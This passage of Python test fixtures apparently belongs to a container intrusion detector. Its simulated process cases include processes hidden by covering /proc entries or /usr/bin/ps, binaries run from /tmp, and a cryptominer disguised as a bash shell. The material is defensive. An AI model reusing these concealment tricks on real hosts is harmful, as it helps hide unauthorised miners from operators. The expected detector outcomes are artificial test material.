    _none("trust.person", "one in a person's session, but without a terminal", _SHELL, _NOBODYS),
    _none(
        "concealment.covered-process", "a covered program", cover("/usr/bin/ps", kind=CoverKind.PROGRAM, forged=_OTHER)
    ),
    _none("concealment.covered-kernel-file", "a covered process", _BURNER, cover("/proc/100", hides=_BURNER)),
    _none(
        "concealment.covered-program",
        "a graphics card's library, which no package of the container has",
        cover("/usr/lib/x86_64-linux-gnu/libcuda.so.1", kind=CoverKind.PROGRAM),
    ),
    _none(
        "trust.person",
        "a script that keeps a terminal open",
        process(107, "bash", "/tmp/x.sh", exe="/usr/bin/bash", tty=TTY),
        process(100, "/tmp/abcd", ppid=107, tty=TTY, cores=1.0),
    ),
    _none(
        "trust.person",
        "another terminal's shell",
        _SHELL,
        process(100, "/tmp/abcd", ppid=107, tty=TTY + 1, cores=1.0),
    ),
    _none(
        "trust.person",
        "a miner that calls itself a shell",
        process(107, "-bash", exe="/tmp/.x/y", name="bash", tty=TTY),
        process(100, "/tmp/abcd", ppid=107, tty=TTY, cores=1.0),
    ),
    *samples_memory.SPARED,
)
